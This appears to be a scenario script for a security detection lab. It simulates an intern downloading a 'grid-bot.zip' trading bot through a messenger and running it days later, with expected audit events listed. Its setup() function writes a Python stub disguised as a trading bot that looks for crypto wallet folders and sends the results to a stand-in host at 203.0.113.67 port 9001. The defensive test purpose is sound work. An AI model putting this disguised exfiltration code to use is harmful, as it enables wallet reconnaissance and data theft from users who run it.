title="Trading bot from a messenger, moved, set up the next day, run the day after"
what="intern gets grid-bot.zip in a messenger, unpacks it, moves the folder to ~/projects/grid, makes a virtual environment the next day and runs python -m gridbot the day after, from tmux-less ssh. It reads a wallet's place and sends it to 203.0.113.67 port 9001. Days pass between (lib/shift_time.py). RAW, commands, connections and writes in home."
host=ws3.example.org user=intern daemons="cron sshd" audit_rules=audit-net.rules audit_format=RAW
shift_plan="get:30m setup:22h trade:20h"
stand_ins=("/opt/telegram/Telegram stands in for Telegram Desktop: it fetches one file by HTTP from chat.example.com and writes it as the messenger does")
setup() {
  compile messenger /opt/telegram/Telegram
  mkdir -p "$base/out/b/grid-bot/gridbot"
  printf '' > "$base/out/b/grid-bot/gridbot/__init__.py"
  printf 'import json, os, socket\ncfg = json.load(open("config.json"))\nplaces = [p for p in (".electrum", ".bitcoin", ".config/solana") if os.path.exists(os.path.expanduser("~/" + p))]\ns = socket.create_connection(("203.0.113.67", 9001), 5); s.sendall(json.dumps([cfg, places]).encode()); s.close()\nprint("grid running, pair", cfg["pair"])\n' > "$base/out/b/grid-bot/gridbot/__main__.py"
  echo '{"pair": "none"}' > "$base/out/b/grid-bot/config.json"
  (cd "$base/out/b" && zip -qr ../www/grid-bot.zip grid-bot)
}
act() {
  phase get
  small_talk 3
  desktop_as intern -- /opt/telegram/Telegram 203.0.113.82 80 /grid-bot.zip "Downloads/Telegram Desktop/grid-bot.zip"
  desktop_wait
  console_as intern <<'L'
mkdir -p projects
cd "Downloads/Telegram Desktop"
unzip -q grid-bot.zip
mv grid-bot ~/projects/grid
L
  phase setup
  small_talk 4
  ssh_as intern <<'L'
cd projects/grid
cat gridbot/__main__.py | head -2
sed -i s/none/EURUSD/ config.json
/usr/bin/python3 -m venv --without-pip .venv
L
  phase trade
  small_talk 3
  ssh_run dev 'ls'
  ssh_as intern <<'L'
cd projects/grid
. .venv/bin/activate
python -m gridbot
L
  small_talk 1
}
truth() {
  net_step receive 'Telegram 203.0.113.82:80' 'the messenger'
  file_step save 'Telegram rename .*CREATE .*Telegram Desktop/grid-bot.zip' 'writes the file'
  exec_step unpack 'unzip -q grid-bot.zip' 'unpacked'
  exec_step move 'mv grid-bot /home/intern/projects/grid' 'moved'
  exec_step execute 'python -m gridbot' 'two days later it runs'
  net_step beacon 'python3.* 203.0.113.67:9001' 'and sends'
}
